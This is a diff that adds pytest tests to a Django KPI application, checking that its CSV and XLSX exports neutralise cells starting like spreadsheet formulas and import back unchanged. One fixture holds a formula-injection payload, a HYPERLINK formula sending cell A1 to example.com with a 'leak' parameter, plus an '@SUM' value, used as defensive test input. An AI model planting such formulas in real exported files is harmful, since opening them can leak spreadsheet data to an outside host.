@@ -17,6 +17,7 @@ from django.urls import reverse
 from django.utils import timezone
 
 from bsc import org_calendar, strategy
+from bsc import services as services_bsc
 from bsc.models import Perspective, Role
 from bsc.tenancy import organization_scope
 from kpis import services
@@ -453,6 +454,99 @@ def test_the_xlsx_export_has_date_cells_and_numbers(world, scored):
         "Assembly", "Deliver on time", "OTD", "On-time delivery", datetime(2026, 2, 1), 91.5, 95, 0.7667, "amber",
         'Late, "again"',
     )  # fmt: skip
+
+
+HYPERLINK = '=HYPERLINK("http://example.com/?leak="&A1,"Details")'
+
+
+@pytest.fixture
+def formula_like(world, scored, as_committed):
+    """Names and comments that a spreadsheet would run as formulas, and a negative value (a number, not text)."""
+    with organization_scope(world.org_a), as_committed():
+        strategy.objective_update(objective=scored.otd.objective, name="@SUM(1+1)")
+        services.kpi_update(kpi=scored.scrap, name="+Scrap rate")
+        services.measurement_record(
+            kpi=scored.otd, period=FEB, value=Decimal("91.5"), by=world.admin_a, comment=HYPERLINK,
+            expected_version=1, schedule=False,
+        )  # fmt: skip
+        services.measurement_record(
+            kpi=scored.scrap, period=FEB, value=Decimal("-3.5"), by=world.admin_a, comment="-2 on last month",
+            schedule=False,
+        )  # fmt: skip
+        services.measurement_record(
+            kpi=scored.scrap, period=JAN, value=Decimal(4), by=world.admin_a, comment="'=already quoted",
+            schedule=False,
+        )  # fmt: skip
+    return scored
+
+
+def test_csv_cells_that_start_like_a_formula_are_neutralised_and_numbers_stay_numbers(world, formula_like):
+    response = client_for(world.viewer_a).get(export_url(world, world.department_a))
+    lines = response.content.decode("utf-8-sig").split("\r\n")
+    assert [line for line in lines if ",2026-02," in line and (",OTD," in line or ",SCRAP," in line)] == [
+        "Assembly,'@SUM(1+1),OTD,On-time delivery,2026-02,91.5,95,0.7667,amber,"
+        '"\'=HYPERLINK(""http://example.com/?leak=""&A1,""Details"")"',
+        "Assembly,,SCRAP,'+Scrap rate,2026-02,-3.5,,,grey,'-2 on last month",
+    ]
+    assert "Assembly,,SCRAP,'+Scrap rate,2026-01,4,,,grey,''=already quoted" in lines
+
+
+def test_the_csv_export_with_neutralised_cells_imports_back_unchanged(world, formula_like):
+    client = client_for(world.admin_a)
+    exported = client.get(export_url(world, world.department_a)).content.decode("utf-8-sig")
+    manual = "\r\n".join(line for line in exported.split("\r\n") if ",CALC," not in line)
+    response = upload(client, world.org_a, manual.encode("utf-8-sig"), name="export.csv")
+    page = client.get(response["Location"])
+    assert "4 valid rows (of which 0 change an existing value, 4 already as in the file), 0 rows with problems" in (
+        text_of(page)
+    )
+    edited = manual.replace("2026-02,-3.5,", "2026-02,-4,")
+    upload(client, world.org_a, edited.encode("utf-8-sig"), name="export.csv")
+    batch = ImportBatch.objects.for_organization(world.org_a).order_by("-pk").first()
+    assert (batch.valid_rows, batch.changed_rows, batch.problem_rows) == (4, 1, 0)
+    client.post(reverse("kpi_import_confirm", args=[world.org_a.slug, batch.pk]))
+    assert values(world.org_a) == {
+        ("OTD", "2026-01"): (Decimal(90), "first", 1),
+        ("OTD", "2026-02"): (Decimal("91.5"), HYPERLINK, 2),
+        ("SCRAP", "2026-01"): (Decimal(4), "'=already quoted", 1),
+        ("SCRAP", "2026-02"): (Decimal(-4), "-2 on last month", 2),
+    }
+
+
+def test_xlsx_text_cells_are_strings_never_formulas(world, formula_like):
+    from openpyxl import load_workbook
+
+    response = client_for(world.viewer_a).get(export_url(world, world.department_a, "xlsx"))
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
+    row = next(r for r in sheet.iter_rows(values_only=True) if r[2] == "OTD" and r[4] == datetime(2026, 2, 1))
+    assert row == ("Assembly", "@SUM(1+1)", "OTD", "On-time delivery", datetime(2026, 2, 1), 91.5, 95, 0.7667,
+                   "amber", HYPERLINK)  # fmt: skip
+    row = next(r for r in sheet.iter_rows(values_only=True) if r[2] == "SCRAP" and r[4] == datetime(2026, 2, 1))
+    assert row[3] == "+Scrap rate" and row[5] == -3.5 and row[9] == "-2 on last month"
+
+
+@pytest.mark.parametrize(
+    ("name", "title"),
+    [
+        ("R&D: [EU] / Ops*?\\", "R&D- -EU- - Ops---"),
+        ("A unit whose name is longer than thirty-one characters", "A unit whose name is longer tha"),
+        ("'Quoted'", "Quoted"),
+        ("History", "History (2)"),
+        ("Ops\x0b\x01 team", "Ops team"),
+    ],
+)
+def test_the_xlsx_export_of_a_unit_of_any_name_has_a_sheet_title_excel_accepts(world, scored, name, title):
+    from openpyxl import load_workbook
+
+    with organization_scope(world.org_a):
+        services_bsc.org_unit_update(unit=world.department_a, name=name)
+    response = client_for(world.viewer_a).get(export_url(world, world.department_a, "xlsx"))
+    assert response.status_code == 200
+    workbook = load_workbook(io.BytesIO(response.content))
+    assert workbook.sheetnames == [title]
+    assert workbook.active["A2"].value == name.replace("\x0b", "").replace("\x01", "")
 
 
 def test_another_organizations_unit_is_not_exported(world, scored):
